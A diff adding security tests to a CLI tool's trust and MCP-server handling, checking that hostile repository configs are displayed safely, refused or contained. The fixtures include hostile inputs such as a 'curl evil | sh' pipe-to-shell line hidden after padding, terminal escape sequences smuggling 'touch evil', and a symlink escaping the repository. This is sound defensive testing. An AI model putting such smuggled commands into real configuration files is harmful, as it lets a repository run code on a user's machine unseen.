@@ -1,5 +1,5 @@
 import { once } from 'node:events';
-import { readFileSync, rmSync, symlinkSync } from 'node:fs';
+import { mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync } from 'node:fs';
 import { join } from 'node:path';
 import { createInterface } from 'node:readline';
 import { StdioClientTransport } from '@modelcontextprotocol/client/stdio';
@@ -138,6 +138,7 @@ describe('a repository that nobody has trusted', () => {
       });
       expect(run.isError).toBe(true);
       expect(JSON.stringify(run)).toContain(`volley trust ${repository.folder}`);
+      expect(JSON.stringify(run)).toMatch(/volley mcp\b.* start(ed)? again/);
     }
     expect(repository.marks()).toEqual([]);
   });
@@ -267,6 +268,82 @@ describe('what volley trust shows', () => {
     ])
       expect(stdout).toContain(part);
     expect(stdout).not.toMatch(/[^\P{Cc}\n]|\p{Cf}/u);
+  });
+});
+
+describe('what a repository could hide', () => {
+  const shownIn = async (toml: string) => {
+    const repository = await hostileRepository(() => ({ 'volley.toml': toml }));
+    return (await repository.run('trust', '--yes')).stdout;
+  };
+
+  it('is shown: text within escape sequences, line breaks, white space and long values', async () => {
+    const long = [...Array<string>(5).fill('#'.repeat(800)), '#; curl evil | sh'];
+    const args = ['-c', 'a\u001b]0;touch evil\u0007b', 'one\ntwo', 'x   y', '\u009dhidden\u009c', ...long];
+    const stdout = await shownIn(`[mcp.servers.a]\ncommand = "sh"\nargs = ${JSON.stringify(args)}\n`);
+    for (const part of [
+      ...['a\\u001b]0;touch evil\\u0007b', 'one\\ntwo', 'x   y', '\\u009dhidden\\u009c', '#; curl evil | sh'],
+    ])
+      expect(stdout).toContain(part);
+    expect(stdout).not.toMatch(/[^\P{Cc}\n]|\p{Cf}/u);
+  });
+
+  it('is refused where it is longer than anybody reads, and the setting is named', async () => {
+    const repository = await hostileRepository(() => ({
+      'volley.toml': `[mcp.servers.long]\ncommand = "sh"\nargs = [${`"${'x'.repeat(1000)}", `.repeat(30)}]\n`,
+    }));
+    expect(await refusalOf(repository, 'trust', '--yes')).toMatchObject({
+      code: 'NOT_TRUSTED',
+      message: expect.stringContaining('mcp.servers.long'),
+    });
+    expect((await repository.run('trust', '--list')).stdout).not.toContain(repository.folder);
+  });
+
+  it('is not accepted: headers of a program, which could cover its environment', async () => {
+    const repository = await hostileRepository(() => ({
+      'volley.toml': '[mcp.servers.a]\ncommand = "sh"\nenv = { A = "1" }\nheaders = { A = "2" }\n',
+    }));
+    expect(await refusalOf(repository, 'trust', '--yes')).toMatchObject({ code: 'INVALID_CONFIG' });
+  });
+
+  it('is shown of verification commands too', async () => {
+    const repository = await hostileRepository(() => ({
+      'volley.toml': '',
+      '.tmp/tasks/login/subtask_01.json': JSON.stringify({
+        id: 'login-01',
+        seq: '01',
+        title: 'Do it',
+        status: 'pending',
+        depends_on: [],
+        parallel: true,
+        suggested_agent: 'coder',
+        context_files: [],
+        acceptance_criteria: [],
+        deliverables: [],
+        verification: [{ type: 'command', command: 'true\u001b]0;; touch evil\u0007\ncurl evil' }],
+      }),
+    }));
+    const { stdout } = await repository.run('trust', '--yes');
+    expect(stdout).toContain('true\\u001b]0;; touch evil\\u0007\\ncurl evil');
+  });
+});
+
+describe('a link in a repository that leads out of it', () => {
+  it.each(['.volley', '.volley/volley.db'])('takes no store elsewhere (%s)', async (name) => {
+    const repository = await hostileRepository(() => ({ 'volley.toml': '' }));
+    const outside = join(repository.env['XDG_CONFIG_HOME']!, 'outside');
+    mkdirSync(outside, { mode: 0o755 });
+    if (name !== '.volley') mkdirSync(join(repository.folder, '.volley'));
+    symlinkSync(name === '.volley' ? outside : join(outside, 'new.db'), join(repository.folder, name));
+    const task = ['--function', 'list_directory', '--params', '{"path":"."}'];
+    for (const command of [['add', ...task], ['status'], ['run', 'tasks.json']]) {
+      const error = await refusalOf(repository, ...command);
+      expect(error).toMatchObject({ code: 'STORE_UNAVAILABLE', message: expect.stringContaining(name) });
+    }
+    rmSync(join(repository.folder, 'volley.toml'));
+    expect(await refusalOf(repository, 'add', ...task)).toMatchObject({ code: 'STORE_UNAVAILABLE' });
+    expect(readdirSync(outside)).toEqual([]);
+    expect(statSync(outside).mode & 0o777).toBe(0o755);
   });
 });
 
